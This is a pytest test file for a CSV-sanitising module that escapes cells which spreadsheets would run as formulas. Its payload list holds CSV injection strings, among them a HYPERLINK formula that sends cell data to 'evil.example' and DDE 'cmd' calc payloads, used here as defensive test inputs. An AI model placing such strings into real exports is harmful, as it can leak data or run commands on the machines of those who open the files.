"""The one rule that keeps CSV cells from running as spreadsheet formulas (pure, no database)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pandas as pd
import pytest

from annotation.csvsafe import (
    cell_unescaped,
    is_dangerous,
    reversible_cell,
    safe_cell,
    safe_dict_writer,
    safe_frame,
    safe_writer,
)

# OWASP "CSV Injection": cells starting with these are read as formulas.
OWASP = ["=", "+", "-", "@", "\t", "\r"]
LOOKALIKES = ["\uff1d", "\uff0b", "\uff0d", "\uff20"]  # full-width = + - @
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "-",
    "@evil",
    "\uff1dHYPERLINK(1)",
    "-1+2",
    "+-1",
    "1e5",  # harmless: not dangerous to begin with
]


@pytest.mark.parametrize("prefix", OWASP + LOOKALIKES)
def test_every_dangerous_prefix_gets_an_apostrophe(prefix):
    text = prefix + "HYPERLINK(1)"
    assert safe_cell(text) == "'" + text
    assert is_dangerous(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_come_out_as_text_with_the_original_after_the_apostrophe(payload):
    out = safe_cell(payload)
    if payload[0] in "=+-@\t\r\uff1d":
        assert out == "'" + payload
    else:
        assert out == payload


@pytest.mark.parametrize(
    "number", ["-0.5", "+3", "-1e-3", "-12", "-.5", "+4.", "-2E+10", "0", "3.25"]
)
def test_numbers_written_as_text_stay_numbers(number):
    assert safe_cell(number) == number
    assert not is_dangerous(number)


@pytest.mark.parametrize("value", [-0.5, -3, 0, Decimal("-1.25"), None, True, False, float("nan")])
def test_non_text_values_pass_unchanged(value):
    out = safe_cell(value)
    assert out is value


@pytest.mark.parametrize(
    "text", ["", "Guidance", "a=b", " =1", "'=already", "1-2", "ℹ︎ note", "dr_a", "c0"]
)
def test_ordinary_text_is_untouched(text):
    assert safe_cell(text) == text


def test_near_numbers_are_not_numbers():
    for text in ["-1+2", "-0.5)", "-1,5", "--1", "+", "-e5", "-0x10", "-1 ", "-١"]:
        assert safe_cell(text) == "'" + text, text


def test_objects_are_checked_as_the_text_csv_would_write():
    class Weird:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Weird()) == "'=1+1"


def test_writers_neutralise_header_and_every_row():
    buffer = io.StringIO()
    writer = safe_writer(buffer, lineterminator="\n")
    writer.writerow(["=h", "ok"])
    writer.writerows([["@x", -0.5], ["-0.5", "\tt"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=h", "ok"],
        ["'@x", "-0.5"],
        ["-0.5", "'\tt"],
    ]
    buffer = io.StringIO()
    writer = safe_dict_writer(buffer, fieldnames=["+a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"+a": "=1", "b": 2})
    assert buffer.getvalue() == "'+a,b\n'=1,2\n"


def test_frames_keep_numeric_columns_and_neutralise_text():
    df = pd.DataFrame({"judge": ["=evil", "gpt-4o"], "bias": [-0.5, 0.25], "n": [-1, 2]})
    out = safe_frame(df).to_csv(index=False)
    assert out == "judge,bias,n\n'=evil,-0.5,-1\ngpt-4o,0.25,2\n"
    assert df["judge"].tolist() == ["=evil", "gpt-4o"]  # the input is not modified
    with_none = pd.DataFrame({"x": ["@a", None], "y": ["-", "b"]})
    assert safe_frame(with_none).to_csv(index=False) == "x,y\n'@a,'-\n,b\n"


# --- a reversible escape, for files that are read back (a released study) --------------------

ROUND_TRIP = [
    *PAYLOADS,
    "plain text",
    "",
    "'",
    "'=1+1",  # already looks escaped: gets one more apostrophe, loses exactly that one
    "''-x",
    "'plain",
    "-0.5",
    "'-0.5",
    "- I feel low",
]


@pytest.mark.parametrize("text", ROUND_TRIP)
def test_reversible_cell_is_safe_and_comes_back_exactly(text):
    written = reversible_cell(text)
    assert not is_dangerous(written)
    assert cell_unescaped(written) == text


def test_unescaping_leaves_text_that_was_never_escaped():
    for text in ["'plain", "'", "''", "-0.5", "'-0.5", "it's =fine"]:
        assert cell_unescaped(text) == text
